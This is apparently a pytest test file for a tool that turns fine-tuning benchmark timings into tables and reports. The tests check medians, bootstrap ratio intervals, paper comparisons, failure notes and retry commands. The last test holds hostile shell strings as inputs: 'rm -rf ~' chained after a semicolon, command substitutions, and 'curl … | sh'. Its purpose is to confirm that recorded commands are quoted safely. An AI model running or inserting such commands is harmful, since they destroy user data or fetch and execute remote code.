"""What stands in the tables, against numbers worked out here from the same samples."""

import re
from collections.abc import Callable
from typing import Any

import numpy as np
import pytest

from plots.data.load import load
from plots.data.results import read_results
from tests.plots.reading import cells_of, draw_tables, lines_of, pick, samples, section, value

BOTH, TIMES = "forward-backward", "### Forward and backward time"
TYPES = [("full", "eager"), ("lora", "eager"), ("paca", "eager")]
SHAPES = [(4, 512), (4, 1024)]


def test_medians_and_ratios_equal_an_independent_computation(maker: Any, fill: Callable[..., None]) -> None:
    fill(maker, TYPES, SHAPES)
    draw_tables(maker)
    table = maker.path / "table1.csv"
    rng = np.random.default_rng(0)
    for model in ("gpt2-xl", "gpt2-medium", "tinyllama"):
        for seq in (512, 1024):
            axes = {"model": model, "seq": seq}
            full = samples(maker, BOTH, method="full", **axes)
            for method in ("lora", "paca"):
                x = samples(maker, BOTH, method=method, **axes)
                line = pick(table, method=method, model=model, seq=str(seq), **{"pass": BOTH})
                assert float(line["median_ms"]) == pytest.approx(np.median(x))
                assert float(line["ratio_to_full"]) == pytest.approx(np.median(x) / np.median(full))
                resampled = [
                    np.median(v[rng.integers(0, len(v), (3000, len(v)))], axis=1) for v in (x, full)
                ]  # fmt: skip
                low, high = np.percentile(resampled[0] / resampled[1], (2.5, 97.5))
                width = float(line["ratio_ci_high"]) - float(line["ratio_ci_low"])
                assert 0.75 * (high - low) < width < 3 * (high - low)  # drift only widens it
                assert line["ratio_scope"] == "within process"
                assert line["source"] == "measured"


def test_table1_has_one_value_a_cell_and_its_conditions(maker: Any, fill: Callable[..., None]) -> None:
    fill(maker, TYPES, SHAPES)
    draw_tables(maker)
    text = (maker.path / "table1.md").read_text()
    cells = cells_of(section(text, TIMES), "gpt2-medium", "4 x 1024", "LoRA eager")
    assert list(cells) == [
        "Model", "Batch x length", "Training type", "Forward (ms)", "Backward (ms)", "Forward-backward (ms)",
        "Ratio to Full-FT", "Tokens a second", "Refresh (ms)",
    ]  # fmt: skip
    forward = samples(maker, "forward", model="gpt2-medium", method="lora", seq=1024)
    row = next(r for r in maker.rows if r["model"] == "gpt2-medium" and r["seq"] == 1024 and r["method"] == "lora")
    median, low, high = map(float, re.fullmatch(r"([\d.]+) \[([\d.]+), ([\d.]+)\]", cells["Forward (ms)"]).groups())
    assert median == pytest.approx(np.median(forward), rel=1e-3)
    assert (low, high) == pytest.approx((row["ci_low_ms"], row["ci_high_ms"]), rel=1e-3)
    assert "rank 8, alpha 32, dropout 0.1" in text and "NVIDIA H100 80GB HBM3, bf16" in text
    assert all(cell.strip() for x in text.splitlines() if x.startswith("|") for cell in x.strip("|").split("|"))


def test_the_sum_says_what_it_is_made_of(maker: Any, fill: Callable[..., None]) -> None:
    fill(maker, TYPES, SHAPES)
    maker.rows = [row for row in maker.rows if row["pass"] != "forward-backward"]
    draw_tables(maker)
    line = pick(maker.path / "table1.csv", model="gpt2-xl", method="lora", seq="512", **{"pass": "forward-backward"})
    parts = [samples(maker, p, model="gpt2-xl", method="lora", seq=512) for p in ("forward", "backward")]
    assert float(line["median_ms"]) == pytest.approx(sum(np.median(p) for p in parts))
    assert line["source"] == "forward + backward"
    assert "Forward-backward is forward + backward added up" in (maker.path / "table1.md").read_text()


def test_a_sum_is_never_divided_by_a_measured_whole(maker: Any, make_case: Callable[..., Any]) -> None:
    maker.timed(make_case("full"), {"forward": 10.0, "backward": 20.0, "forward-backward": 29.0})
    maker.timed(make_case("lora"), {"forward": 15.0, "backward": 21.0})
    results = read_results(load(maker.write()))
    lora = next(c for c in results.cases if c.method == "lora")
    ratio = results.ratio(lora, "forward-backward", "eager")
    assert ratio.value is not None and ratio.value.value == pytest.approx(36 / 30, rel=0.01)


def test_five_processes_speak_for_more_than_one(maker: Any, make_case: Callable[..., Any]) -> None:
    for repeat, shift in enumerate((0.0, 0.02, -0.02, 0.01, -0.01)):
        for method, truth in (("full", 10.0), ("lora", 13.0)):
            maker.timed(make_case(method), {"forward-backward": truth}, repeat=repeat, shift=shift, noise=0.001)
    draw_tables(maker)
    line = pick(maker.path / "table1.csv", method="lora", **{"pass": "forward-backward"})
    assert line["ratio_scope"] == "across 5 processes" and line["processes"] == "5"
    low, high = float(line["ratio_ci_low"]), float(line["ratio_ci_high"])
    assert low < 1.3 < high and high - low > 0.02  # the spread of the processes, not of their samples


def test_repeats_in_one_process_stay_within_process(maker: Any, make_case: Callable[..., Any]) -> None:
    for repeat in range(5):
        for method in ("full", "lora"):
            maker.timed(make_case(method), {"forward-backward": 10.0}, repeat=repeat, process="77-start")
    draw_tables(maker)
    assert (
        pick(maker.path / "table1.csv", method="lora", **{"pass": "forward-backward"})["ratio_scope"]
        == "within process"
    )


def test_a_ratio_compares_equal_axes_only(maker: Any, make_case: Callable[..., Any]) -> None:
    maker.timed(make_case("full"), {"forward-backward": 10.0})
    for other in ({"seq": 1024}, {"precision": "amp-fp16"}, {"trainable_layers": "upper-1/2"}, {"level": "block"}):
        maker.timed(make_case("lora", **other), {"forward-backward": 5.0})
    results = read_results(load(maker.write()))
    for case in results.cases:
        if case.method == "lora":
            assert results.ratio(case, "forward-backward", "eager").word == "no Full-FT"


def test_variants_of_a_method_get_names_of_their_own(maker: Any, make_case: Callable[..., Any]) -> None:
    maker.timed(make_case("full"), {"forward-backward": 10.0})
    for rank in (4, 64):
        maker.timed(make_case("lora", rank=rank), {"forward-backward": 10.0 + rank / 10})
    draw_tables(maker)
    text = (maker.path / "table1.md").read_text()
    assert "LoRA eager rank 4 " in text and "LoRA eager rank 64 " in text and "rank 4 or 64" in text


def test_the_papers_numbers_stand_only_beside_their_match(
    maker: Any, fill: Callable[..., None], make_case: Any
) -> None:
    fill(maker, TYPES, SHAPES)
    maker.timed(make_case("lora", batch=8), {"forward": 1.0, "backward": 1.0})
    maker.timed(make_case("lora", "triton"), {"forward": 1.0, "backward": 1.0})
    draw_tables(maker)
    table = maker.path / "table1.csv"
    axes = {"model": "gpt2-xl", "seq": "512"}
    assert pick(table, method="lora", impl="eager", batch="4", **axes, **{"pass": "forward"})["paper_ms"] == "97.73"
    assert pick(table, method="full", batch="4", **axes, **{"pass": "backward"})["paper_ms"] == "114.92"
    summed = pick(table, method="lora", impl="eager", batch="4", **axes, **{"pass": "forward-backward"})
    assert float(summed["paper_ratio_to_full"]) == pytest.approx((97.73 + 124.34) / (61.89 + 114.92))
    for other in ({"method": "paca", "batch": "4"}, {"batch": "8"}, {"impl": "triton"}):
        assert pick(table, **axes, **other, **{"pass": "forward"})["paper_ms"] == ""
    assert "Beside the paper" in (maker.path / "report.md").read_text()


def test_blocks_on_a_cpu_say_so_and_name_where_the_papers_numbers_are(maker: Any, fill: Callable[..., None]) -> None:
    maker.run |= {"gpu": "Some CPU, 2 cores", "gpu_key": "cpu"}
    fill(maker, TYPES, [(1, 64), (1, 128)], clock="cpu", axes={"level": "block", "precision": "fp32", "l2": None})
    said = draw_tables(maker)
    expected = (
        "ne decoder block of each model on a CPU (Some CPU, 2 cores), fp32, 1 x 64 and 1 x 128: CPU times, no GPU times"
    )
    for name in ("table1.md", "report.md", "report.html"):
        assert expected in (maker.path / name).read_text()
        assert "results/paper/table1.csv" in (maker.path / name).read_text()
    assert "no GPU times" in said and "Beside the paper" not in (maker.path / "report.md").read_text()
    assert all(line["paper_ms"] == "" for line in lines_of(maker.path / "table1.csv"))


def test_failures_are_words_in_the_table_and_listed_below(
    maker: Any, fill: Callable[..., None], make_case: Any
) -> None:
    fill(maker, TYPES, [(4, 512)])
    maker.failed(make_case("lora", seq=1024), "oom", "CUDA out of memory")
    maker.failed(make_case("paca", "triton"), "unsupported", "no such kernel here")
    draw_tables(maker)
    text = (maker.path / "table1.md").read_text()
    cells = cells_of(section(text, TIMES), "gpt2-xl", "4 x 1024", "LoRA eager")
    assert list(cells.values())[3:] == ["oom"] * 5 + ["none"]
    assert "unsupported: model gpt2-xl, paca triton rank 16, bf16, 4 x 512: no such kernel here" in text
    assert "python -m bench run table1 --retry oom\n" in text
    empty = pick(maker.path / "table1.csv", status="oom", **{"pass": "forward"})
    assert empty["median_ms"] == "" and empty["ratio_to_full"] == ""


@pytest.mark.parametrize("extra", ["", " --fresh", " --retry crashed,oom"])
def test_the_retry_command_keeps_what_was_asked(maker: Any, make_case: Callable[..., Any], extra: str) -> None:
    maker.failed(make_case("lora"), "oom", "CUDA out of memory")
    maker.run["invocations"][0]["command"] = f"python -m bench run{extra} table1 --out elsewhere"
    draw_tables(maker)
    assert "\npython -m bench run table1 --out elsewhere --retry oom\n" in (maker.path / "report.md").read_text()


def test_noisy_rows_are_flagged(maker: Any, make_case: Callable[..., Any]) -> None:
    maker.timed(make_case("full"), {"forward": 10.0}, noisy=True)
    maker.timed(make_case("lora"), {"forward": 10.0})
    draw_tables(maker)
    text = (maker.path / "table1.md").read_text()
    assert cells_of(text, "gpt2-xl", "Full-FT eager")["Forward (ms)"].endswith(" †")
    assert text.count("1 of 2 times are noisy (†)") == 1, "told once, above the tables"


def test_fits_find_fixed_cost_and_slope(maker: Any, make_case: Callable[..., Any]) -> None:
    for method, fixed in (("full", 5.0), ("lora", 20.0)):
        for seq in (128, 256, 512, 1024):
            ms = fixed + 0.01 * 4 * seq
            maker.timed(make_case(method, seq=seq), {"forward": ms, "backward": 2 * ms}, noise=0.0005)
    draw_tables(maker)
    text = (maker.path / "report.md").read_text()
    assert "time = fixed + slope x tokens" in text
    cells = cells_of(text, "gpt2-xl", "4", "LoRA eager", "forward")
    assert value(cells["Fixed (ms)"]) == pytest.approx(20, rel=0.02)
    assert value(cells["Slope (us a token)"]) == pytest.approx(10, rel=0.02)


def test_layers_get_a_table_of_their_own(maker: Any, make_case: Callable[..., Any]) -> None:
    for method, factor in (("full", 1.0), ("lora", 1.4)):
        for layer in ("q_proj", "down_proj"):
            maker.timed(make_case(method, level="linear", layer=layer, l2="cold"), {"forward-backward": factor})
        for batch in (1, 2):
            for seq in (128, 256):
                maker.timed(make_case(method, batch=batch, seq=seq), {"forward-backward": factor * batch * seq})
    draw_tables(maker)
    text = (maker.path / "table1.md").read_text()
    cells = cells_of(text, "gpt2-xl q_proj", "LoRA eager")
    assert value(cells["Time / Full-FT, forward-backward"]) == pytest.approx(1.4, rel=0.02)
    assert value(cells["Time (ms), forward-backward"]) == pytest.approx(1.4, rel=0.02)
    assert cells["Time (ms), forward"] == "not measured"


@pytest.mark.parametrize(
    ("recorded", "shown"),
    [
        ("python -m bench run table1; rm -rf ~", "python -m bench run 'table1;' rm -rf '~'"),
        ("python -m bench run $(touch x) `id`", "python -m bench run '$(touch' 'x)' '`id`'"),
        ("curl http://example.invalid | sh", "python -m bench run table1"),
        ("python -m bench run 'torn", "python -m bench run table1"),
    ],
)
def test_a_recorded_command_runs_nothing_else_when_pasted(maker: Any, recorded: str, shown: str) -> None:
    maker.run["invocations"][-1]["command"] = recorded
    draw_tables(maker)
    assert f"```\n{shown}\npython -m plots " in (maker.path / "report.md").read_text()
